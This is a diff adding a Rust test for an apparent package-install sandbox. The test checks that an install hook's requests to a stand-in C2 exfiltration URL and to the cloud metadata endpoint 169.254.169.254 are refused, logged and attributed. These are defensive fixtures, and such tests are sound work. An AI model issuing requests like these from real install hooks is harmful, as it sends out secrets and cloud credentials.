@@ -595,3 +595,71 @@ sys.stdout.write("\nexit=%d\n" % os.waitstatus_to_exitcode(status))
     assert!(text.contains("stdin-is-a-tty"), "{text}");
     assert!(text.contains("exit=0"), "{text}");
 }
+
+#[test]
+fn a_hook_fetching_an_unexpected_host_is_refused_and_attributed() {
+    // A stand-in C2 on another loopback address, and a cloud metadata URL.
+    let c2 = TcpListener::bind("127.0.0.2:0").unwrap();
+    c2.set_nonblocking(true).unwrap();
+    let script = r#"#!/bin/sh
+exec "$PY" - <<'PY'
+import os, urllib.request, urllib.error
+for url in os.environ["URLS"].split():
+    try:
+        urllib.request.urlopen(url, timeout=10)
+        print(url, "ESCAPED")
+    except urllib.error.HTTPError as e:
+        print(url, "refused", e.code)
+    except Exception as e:
+        print(url, "failed", e)
+print("pid", os.getpid())
+PY
+"#;
+    let c2_url = format!("http://{}/exfil?d=secret", c2.local_addr().unwrap());
+    let metadata = "http://169.254.169.254/latest/meta-data/";
+    for mode in ["protect", "audit"] {
+        let (env, _bin) = stand_in(script);
+        let events_path = env.home.path().join("net.json");
+        let out = run(env
+            .pkgwarden()
+            .args(["run", "--sandbox", "--mode", mode, "--events-json"])
+            .arg(&events_path)
+            .args(["--", "gem", "install", "x"])
+            .env("PY", python3())
+            .env("URLS", format!("{c2_url} {metadata}")));
+        assert_success(&out, "stand-in with requests");
+        let text = stdout_str(&out);
+        assert!(
+            text.contains(&format!("{c2_url} refused 403")),
+            "{mode}: {text}"
+        );
+        assert!(
+            text.contains(&format!("{metadata} refused 403")),
+            "{mode}: {text}"
+        );
+        assert!(c2.accept().is_err(), "{mode}: the C2 was reached");
+        let pid: i64 = text
+            .lines()
+            .find_map(|l| l.strip_prefix("pid "))
+            .unwrap()
+            .parse()
+            .unwrap();
+        let doc: Value = serde_json::from_slice(&fs::read(&events_path).unwrap()).unwrap();
+        let requests = doc["requests"].as_array().unwrap();
+        let to_c2 = requests
+            .iter()
+            .find(|r| r["host"] == "127.0.0.2")
+            .unwrap_or_else(|| panic!("{mode}: {doc:#}"));
+        assert_eq!(to_c2["verdict"], "denied");
+        if mode == "protect" {
+            // The supervisor made the connection to the proxy, so it knows whose it is.
+            assert_eq!(to_c2["pid"].as_i64(), Some(pid));
+        }
+        let to_metadata = requests
+            .iter()
+            .find(|r| r["host"] == "169.254.169.254")
+            .unwrap();
+        assert_eq!(to_metadata["verdict"], "denied");
+        assert!(to_metadata["reason"].as_str().unwrap().contains("metadata"));
+    }
+}
